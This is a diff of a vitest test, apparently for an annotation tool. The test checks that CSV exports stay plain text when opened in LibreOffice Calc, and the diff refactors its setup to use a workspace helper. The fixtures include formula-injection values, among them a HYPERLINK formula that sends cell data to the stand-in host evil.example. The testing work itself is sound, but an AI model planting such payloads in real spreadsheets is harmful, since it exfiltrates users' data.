@@ -1,10 +1,11 @@
 import { describe, expect, it } from 'vitest';
-import { createCodingServices, type Annotation } from '../../../electron/core/annotations';
+import { createCodingServices } from '../../../electron/core/annotations';
 import { exportAnnotationsCsv } from '../../../electron/core/annotations/export';
-import type { TopicsData } from '../../../electron/core/topics';
 import { openCsvInLibreOffice } from '../../helpers/libreoffice';
-import { MemoryCollection } from '../annotations/helpers/memory-collection';
+import { useCodingWorkspaces } from '../annotations/helpers/coding-workspace';
 import { paragraphsToPassages, TestCorpus } from '../annotations/helpers/seed-corpus';
+
+const openCodingWorkspace = useCodingWorkspaces();
 
 const hostileTitle = '=HYPERLINK("http://evil.example/?d="&A2,"Open report")';
 const hostileNote = '=1+1';
@@ -13,11 +14,7 @@ describe('annotation CSV opened in LibreOffice Calc', () => {
   it('is text in every cell, where the same values written plainly become live formulas', async () => {
     const corpus = new TestCorpus();
     corpus.setDocument('imported-1', hostileTitle, paragraphsToPassages('imported-1', ['@SUM(1+1) said the minutes; Vučić disagreed.'], ['R1']));
-    const services = createCodingServices({
-      annotations: new MemoryCollection('annotations', { annotations: [] as Annotation[] }),
-      topics: new MemoryCollection<TopicsData>('topics', { topics: [] }),
-      lookup: corpus,
-    });
+    const services = createCodingServices((await openCodingWorkspace()).workspace, corpus);
     await services.annotations.createFromQuote({ passageId: 'imported-1-p0', quote: '@SUM(1+1) said the minutes', note: hostileNote });
 
     // The control: the same cells without neutralising. Calc makes formulas of them, so this
